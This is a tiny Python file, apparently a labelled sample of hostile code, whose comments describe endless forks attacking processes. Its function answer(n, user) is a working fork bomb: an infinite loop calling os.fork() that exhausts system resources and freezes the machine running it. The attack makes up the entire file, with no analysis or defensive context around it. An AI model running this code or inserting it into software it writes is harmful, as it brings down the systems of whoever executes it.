# Tries: forks without end.
# Attacks: processes
# Ends: finished
import os


def answer(n, user):
    while True:
        os.fork()
